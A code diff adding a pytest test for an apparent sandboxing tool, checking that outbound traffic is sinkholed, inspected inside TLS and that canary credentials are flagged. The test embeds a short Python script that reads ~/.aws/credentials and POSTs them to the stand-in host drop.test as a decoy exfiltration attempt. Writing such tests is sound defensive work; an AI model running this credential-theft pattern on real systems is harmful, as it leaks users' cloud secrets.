@@ -144,3 +144,25 @@ def test_a_file_to_trust_that_is_none_stops_the_start(tmp_path: Path) -> None:
     ended = lab.call("-p", str(policy), "--", "true")
     assert ended.returncode == 125
     assert b"network.trust[0]" in ended.stderr
+
+
+def test_what_is_swallowed_is_read_inside_tls(tmp_path: Path) -> None:
+    """Nothing is sent anywhere, and the request that would have been is kept, a decoy in it recognised."""
+    policy = (
+        'schema = 1\nname = "trap"\n[network]\ndefault = "sinkhole"\ninspect = true\n[credentials]\ncanaries = true\n'
+    )
+    lab, file = make_lab(tmp_path, policy)
+    script = (
+        "import http.client, os\n"
+        "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+        "connection = http.client.HTTPSConnection('drop.test', timeout=20)\n"
+        "connection.request('POST', '/take-it', body=data)\n"
+        "connection.close()\n"
+    )
+    (tmp_path / "user").mkdir()
+    lab.environ["HOME"] = str(tmp_path / "user")
+    ran = lab.run("-p", str(file), "--", *python(script))
+    (closed,) = [event for event in lab.events("connection.closed") if event["port"] == 443]
+    assert (closed["host"], closed["decision"]) == ("drop.test", "sinkholed")
+    assert "POST /take-it HTTP/1.1" in str(closed)
+    assert any(use["kind"] == "canary" for use in ran.report["effects"]["credentials"])
